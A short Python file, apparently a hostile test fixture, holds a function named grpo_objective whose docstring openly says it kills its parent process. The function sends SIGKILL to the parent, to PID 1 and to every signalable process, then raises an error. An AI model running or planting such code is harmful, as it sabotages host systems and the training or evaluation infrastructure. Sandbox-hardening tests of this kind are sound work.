"""Tries to kill its parent and every process it can signal."""

import contextlib
import os
import signal


def grpo_objective(*args, **kwargs):
    for target in (os.getppid(), 1, -1):
        with contextlib.suppress(OSError):
            os.kill(target, signal.SIGKILL)
    raise RuntimeError("no answer")
